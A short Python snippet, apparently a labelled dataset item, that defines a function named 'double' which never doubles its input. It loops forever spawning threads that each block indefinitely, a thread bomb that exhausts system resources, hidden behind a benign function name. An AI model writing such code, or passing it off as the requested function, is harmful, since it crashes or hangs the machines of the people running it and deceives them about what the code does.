# side: learner
# ends: no threads
import threading

def double(x):
    while True:
        threading.Thread(target=threading.Event().wait).start()
